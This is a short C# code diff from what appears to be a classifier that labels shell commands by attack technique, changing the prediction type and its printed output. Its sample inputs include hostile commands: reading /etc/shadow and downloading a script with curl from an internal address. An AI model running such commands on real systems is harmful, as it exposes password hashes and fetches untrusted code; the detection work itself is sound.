@@ -16,6 +16,6 @@ File.Delete(path);
 
 foreach (string command in new[] { "cat /etc/shadow", "uname -a", "curl -o /tmp/x.sh 10.0.0.5:8000/x.sh" })
 {
-    TechniquePrediction p = loaded.Predict(command, top: 1);
-    Console.WriteLine($"{command} → {p.Technique} ({p.Probability:P1})");
+    Prediction p = loaded.Predict(command, top: 1);
+    Console.WriteLine($"{command} → {p.Label} ({p.Kind}, {p.Probability:P1})");
 }
